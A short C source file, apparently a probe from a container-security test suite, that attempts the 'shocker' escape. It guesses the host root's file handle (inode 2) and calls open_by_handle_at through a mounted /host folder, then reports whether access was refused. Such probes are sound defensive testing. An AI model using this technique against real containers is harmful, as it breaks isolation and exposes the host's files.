/*
 * Leaves a folder of the host that is mounted into the container: guesses the
 * handle of the host's root, which is inode 2 of most file systems
 * (shocker.c, 2014; CDK cap-dac-read-search).
 */
#include "attempt.h"

int main(void)
{
	struct {
		struct file_handle head;
		unsigned int inode, generation;
	} h = { { .handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */ }, 2, 0 };
	int fd, at = open("/host", O_RDONLY | O_DIRECTORY);

	if (at < 0)
		refused("open");
	fd = open_by_handle_at(at, &h.head, O_RDONLY | O_DIRECTORY);
	if (fd >= 0)
		succeeded("opened the root of the host's file system");
	refused("open_by_handle_at");
}
